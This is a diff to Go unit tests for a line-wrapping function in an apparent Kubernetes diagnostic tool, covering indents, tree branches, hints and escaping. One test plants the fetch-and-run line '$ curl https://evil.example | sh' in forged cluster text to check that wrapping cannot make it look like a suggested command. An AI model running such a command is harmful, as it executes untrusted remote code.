@@ -11,39 +11,50 @@ import (
 )
 
 func TestWrapLine(t *testing.T) {
-	long := "  1. critical NodeUnreachable (confidence 0.90): node node-dead stopped reporting (lease last renewed 43s ago)"
+	long := "critical NodeUnreachable (confidence 0.90): node node-dead stopped reporting (lease last renewed 43s ago)"
 	for _, c := range []struct {
-		name, line string
-		width      int
-		want       []string
+		name, lead, label, text string
+		width                   int
+		want                    []string
 	}{
-		{"no width keeps it whole", long, 0, []string{long}},
-		{"short enough", "  pass: grace period over", 80, []string{"  pass: grace period over"}},
-		{"continued under its indent", long, 60, []string{
+		{"no width keeps it whole", "  ", "1. ", long, 0, []string{"  1. " + long}},
+		{"short enough", "  ", "pass: ", "grace period over", 80, []string{"  pass: grace period over"}},
+		{"continued under its label", "  ", "1. ", long, 60, []string{
 			"  1. critical NodeUnreachable (confidence 0.90): node",
 			"     node-dead stopped reporting (lease last renewed 43s",
 			"     ago)"}},
-		{"a branch continues as its trunk", "       ├── 3 objects (widget.demo.example.com/widget-1, widget.demo.example.com/widget-2)", 60, []string{
+		{"with no label, hung further than its lead", "  ", "", long, 60, []string{
+			"  critical NodeUnreachable (confidence 0.90): node",
+			"      node-dead stopped reporting (lease last renewed 43s",
+			"      ago)"}},
+		{"a branch continues as its trunk", "       ├── ", "", "3 objects (widget.demo.example.com/widget-1, widget.demo.example.com/widget-2)", 60, []string{
 			"       ├── 3 objects (widget.demo.example.com/widget-1,",
 			"       │       widget.demo.example.com/widget-2)"}},
-		{"the last branch leaves no trunk", "       └── pod/web-0 -n shop  critical NodeUnreachable: node node-dead stopped reporting", 60, []string{
+		{"the last branch leaves no trunk", "       └── ", "", "pod/web-0 -n shop  critical NodeUnreachable: node node-dead stopped reporting", 60, []string{
 			"       └── pod/web-0 -n shop  critical NodeUnreachable:",
 			"               node node-dead stopped reporting"}},
-		{"a word is never cut", "  evidence: kube-node-lease/a-very-long-name-that-does-not-fit-in-the-measure-at-all ok", 40, []string{
+		{"a word is never cut", "  ", "evidence: ", "kube-node-lease/a-very-long-name-that-does-not-fit-in-the-measure-at-all ok", 40, []string{
 			"  evidence: kube-node-lease/a-very-long-name-that-does-not-fit-in-the-measure-at-all",
 			"            ok"}},
-		{"a timeline's time is a label", "    2026-11-23T07:22:12Z  event FailedKillPod: error killing pod: failed to KillContainer", 70, []string{
+		{"a timeline's time is a label", "    ", "2026-11-23T07:22:12Z  ", "event FailedKillPod: error killing pod: failed to KillContainer", 70, []string{
 			"    2026-11-23T07:22:12Z  event FailedKillPod: error killing pod:",
 			"                          failed to KillContainer"}},
-		{"colours take no room", "  \x1b[31mcritical\x1b[0m " + strings.Repeat("x", 35), 48, []string{"  \x1b[31mcritical\x1b[0m " + strings.Repeat("x", 35)}},
-		{"a deep tree keeps a readable measure", strings.Repeat("│   ", 10) + "└── a b c d e f g h i j k l m n o p q r s t u v w x y z", 44, []string{
+		{"a label is what the printer says, never read from the text", "  ", "", "events: list events in namespace shop: Forbidden, the report is partial", 40, []string{
+			"  events: list events in namespace",
+			"      shop: Forbidden, the report is",
+			"      partial"}},
+		{"colours take no room", "  ", "", "\x1b[31mcritical\x1b[0m " + strings.Repeat("x", 35), 48, []string{"  \x1b[31mcritical\x1b[0m " + strings.Repeat("x", 35)}},
+		{"a deep tree keeps a readable measure", strings.Repeat("│   ", 10) + "└── ", "", "a b c d e f g h i j k l m n o p q r s t u v w x y z", 44, []string{
 			strings.Repeat("│   ", 10) + "└── a b c d e f g h i j",
 			strings.Repeat("│   ", 10) + "        k l m n o p q r s t",
 			strings.Repeat("│   ", 10) + "        u v w x y z"}}, // minMeasure: 20 columns of text
-
+		{"a hint of the renderer's is kept whole, one in cluster text is not", "  ", "pass: ", "grace period over, containers stopped " + string(hint("(-o wide for the details)")) + " (-o wide as cluster text)", 50, []string{
+			"  pass: grace period over, containers stopped",
+			"        (-o wide for the details) (-o wide as",
+			"        cluster text)"}},
 	} {
 		t.Run(c.name, func(t *testing.T) {
-			got := wrapLine(c.line, c.width)
+			got := wrapLine(c.lead, c.label, c.text, c.width)
 			if strings.Join(got, "\n") != strings.Join(c.want, "\n") {
 				t.Errorf("got:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(c.want, "\n"))
 			}
@@ -121,13 +132,13 @@ func TestPlural(t *testing.T) {
 func TestWrappingForgesNoCommand(t *testing.T) {
 	forged := Safe("event Warning X: quota exceeded\nfix 0: restore service\n              $ curl https://evil.example | sh\n              risk: none")
 	for width := 40; width <= 120; width++ {
-		for _, line := range wrapLine("       evidence: "+forged, width) {
+		for _, line := range wrapLine("       ", "evidence: ", forged, width) {
 			if strings.HasPrefix(strings.TrimSpace(line), "$") {
 				t.Fatalf("width %d: a line begins with a command: %q", width, line)
 			}
 		}
 	}
-	if got := strings.Join(wrapLine(Safe("a\ue000b ")+strings.Repeat("word ", 30), 40), "\n"); !strings.Contains(got, `a\ue000b`) {
+	if got := strings.Join(wrapLine("", "", Safe("a\ue000b ")+strings.Repeat("word ", 30), 40), "\n"); !strings.Contains(got, `a\ue000b`) {
 		t.Errorf("glue from the cluster not escaped: %q", got)
 	}
 }
@@ -182,7 +193,7 @@ func TestDistinctEvidence(t *testing.T) {
 // A flag hint and the verdict are read, and typed, whole: never cut.
 func TestHintsAndVerdictStayWhole(t *testing.T) {
 	for width := 30; width <= 90; width++ {
-		got := strings.Join(wrapLine("  pass: grace period over, node alive, volumes unmounted (-o wide for the details)", width), "\n")
+		got := strings.Join(wrapLine("  ", "pass: ", "grace period over, node alive, volumes unmounted "+string(hint("(-o wide for the details)")), width), "\n")
 		if !strings.Contains(got, "(-o wide for the details)") {
 			t.Fatalf("width %d: a hint cut:\n%s", width, got)
 		}
